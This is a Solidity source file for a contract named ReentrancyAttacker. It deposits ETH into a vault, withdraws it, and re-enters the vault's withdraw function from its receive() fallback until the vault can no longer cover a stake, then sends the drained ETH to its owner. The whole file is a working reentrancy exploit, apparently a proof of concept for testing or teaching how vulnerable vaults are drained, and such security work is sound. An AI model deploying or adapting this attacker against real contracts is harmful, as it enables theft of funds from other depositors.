// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

import {IEtherVault} from "./IEtherVault.sol";

/// @title ReentrancyAttacker
/// @notice Deposits a stake into an ether vault, withdraws it, and withdraws it again from inside
/// each payout for as long as the vault holds a whole stake; then hands the ETH to its owner.
contract ReentrancyAttacker is Ownable {
    error ReentrancyAttackerUnexpectedSender(address sender);
    error ReentrancyAttackerPayoutFailed(address to, uint256 amount);

    IEtherVault public immutable vault;
    uint256 private _stake;

    constructor(IEtherVault vault_, address owner_) Ownable(owner_) {
        vault = vault_;
    }

    /// @notice Runs the attack with the sent ETH as the stake and sends everything back to the owner.
    function attack() external payable onlyOwner {
        _stake = msg.value;
        vault.deposit{value: msg.value}();
        vault.withdraw(msg.value);
        _stake = 0;
        uint256 loot = address(this).balance;
        (bool paid, ) = owner().call{value: loot}("");
        if (!paid) revert ReentrancyAttackerPayoutFailed(owner(), loot);
    }

    /// @dev Each payout of the vault lands here; withdrawing the same stake again is the attack.
    // solhint-disable-next-line no-complex-fallback
    receive() external payable {
        if (msg.sender != address(vault)) revert ReentrancyAttackerUnexpectedSender(msg.sender);
        if (address(vault).balance >= _stake) vault.withdraw(_stake);
    }
}
